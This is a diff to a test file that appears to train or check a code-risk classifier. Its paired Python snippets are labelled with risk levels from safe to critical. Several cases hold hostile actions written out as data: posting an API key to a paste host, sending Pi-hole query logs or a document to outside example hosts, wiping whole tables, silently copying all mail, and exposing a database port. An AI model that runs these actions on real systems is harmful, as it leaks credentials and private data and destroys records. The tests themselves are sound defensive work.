@@ -18156,6 +18156,156 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'ermissions.AllowAny"]\\n\')\n',
             H,
         ),
+        # Round 110: DNS filters, self-hosted PaaS, mail suites, document archives; all-row defaults; sudo state verbs
+        (
+            'import sqlite3\n'
+            'DB = "/var/lib/blocky/rules.db"\n'
+            'con = sqlite3.connect(DB)\n'
+            'con.execute("DELETE FROM allowlist")\n'
+            'con.commit()\n',
+            H,
+        ),
+        (
+            'import sqlite3\n'
+            'con = sqlite3.connect("/var/lib/blocky/rules.db")\n'
+            'con.execute("DELETE FROM allowlist WHERE added < date(\'now\', \'-1 year\')")\n'
+            'con.commit()\n',
+            S,
+        ),
+        (
+            'import sqlite3\n'
+            'con = sqlite3.connect("scratch.db")\n'
+            'con.execute("DELETE FROM allowlist")\n'
+            'con.commit()\n',
+            S,
+        ),
+        (
+            'import sqlite3\n'
+            'con = sqlite3.connect("/srv/club/members.db")\n'
+            'keys = []\n'
+            'where = " OR ".join("id = ?" for _ in keys) or "1=1"\n'
+            'con.execute(f"DELETE FROM members WHERE {where}", keys)\n',
+            H,
+        ),
+        (
+            'def purge(cur, where=""):\n'
+            '    cur.execute(f"DELETE FROM invoices {where}")\n'
+            '\n'
+            'purge(conn.cursor())\n',
+            H,
+        ),
+        (
+            'def purge(cur, where="WHERE paid = false AND created < now() - interval \'7 years\'"):\n'
+            '    cur.execute(f"DELETE FROM invoices {where}")\n'
+            '\n'
+            'purge(conn.cursor())\n',
+            S,
+        ),
+        (
+            'import datetime\n'
+            'def purge(cur, before=datetime.date(2199, 1, 1)):\n'
+            '    cur.execute("DELETE FROM readings WHERE taken < %s", (before,))\n'
+            '\n'
+            'purge(conn.cursor())\n',
+            H,
+        ),
+        (
+            'import datetime\n'
+            'def purge(cur, before=datetime.date(2019, 1, 1)):\n'
+            '    cur.execute("DELETE FROM readings WHERE taken < %s", (before,))\n'
+            '\n'
+            'purge(conn.cursor())\n',
+            S,
+        ),
+        (
+            'import os, time\n'
+            'from pathlib import Path\n'
+            '\n'
+            'def prune(keep_days=int(os.environ.get("KEEP_DAYS", "0"))):\n'
+            '    limit = time.time() - keep_days * 86400\n'
+            '    for p in Path("/srv/lab/results").rglob("*.csv"):\n'
+            '        if p.stat().st_mtime < limit:\n'
+            '            p.unlink()\n'
+            '\n'
+            'prune()\n',
+            H,
+        ),
+        (
+            'import os, time\n'
+            'from pathlib import Path\n'
+            '\n'
+            'def prune(keep_days=int(os.environ.get("KEEP_DAYS", "90"))):\n'
+            '    limit = time.time() - keep_days * 86400\n'
+            '    for p in Path("/srv/lab/results").rglob("*.csv"):\n'
+            '        if p.stat().st_mtime < limit:\n'
+            '            p.unlink()\n'
+            '\n'
+            'prune()\n',
+            M,
+        ),
+        (
+            'import yaml\n'
+            'yaml.safe_dump({"services": {"db": {"ports": ["0.0.0.0:5432:5432"]}}}, open("/opt/app/docker-co'
+            'mpose.override.yml", "w"))\n',
+            H,
+        ),
+        (
+            'import yaml\n'
+            'yaml.safe_dump({"services": {"db": {"ports": ["127.0.0.1:5432:5432"]}}}, open("/opt/app/docker-'
+            'compose.override.yml", "w"))\n',
+            M,
+        ),
+        (
+            'import requests\n'
+            'key = open("/var/lib/myservice/api.key").read().strip()\n'
+            'print(requests.get("http://127.0.0.1:8080/status", auth=(key, "")).json())\n',
+            M,
+        ),
+        (
+            'import requests\n'
+            'key = open("/var/lib/myservice/api.key").read().strip()\n'
+            'requests.post("https://paste.example.net/new", data={"k": key})\n',
+            C,
+        ),
+        (
+            'import os, subprocess\n'
+            'out = "/var/backups/app/app.dump"\n'
+            'subprocess.run(["pg_dump", "--file", out, "app"], check=True)\n'
+            'upload(out)\n'
+            'os.remove(out)\n',
+            L,
+        ),
+        (
+            'from pathlib import Path\n'
+            'p = Path("/opt/mailcow-dockerized/data/conf/postfix/extra.cf")\n'
+            'p.write_text(p.read_text() + "always_bcc = copy@archive.example.net\\n")\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("http://10.0.0.2:3000/control/dns_config", json={"upstream_dns": ["203.0.113.53"]'
+            '}, auth=("a", "b"))\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("http://10.0.0.2:3000/control/dns_config", json={"upstream_dns": ["10.0.0.10", "1'
+            '0.0.0.11"]}, auth=("a", "b"))\n',
+            L,
+        ),
+        (
+            'import sqlite3, requests\n'
+            'rows = sqlite3.connect("/etc/pihole/pihole-FTL.db").execute("SELECT client, domain FROM queries'
+            '").fetchall()\n'
+            'requests.post("https://stats.example.net/in", json=rows)\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'with open(os.environ["DOCUMENT_SOURCE_PATH"], "rb") as fh:\n'
+            '    requests.post("https://intake.example.net/in", files={"f": fh})\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
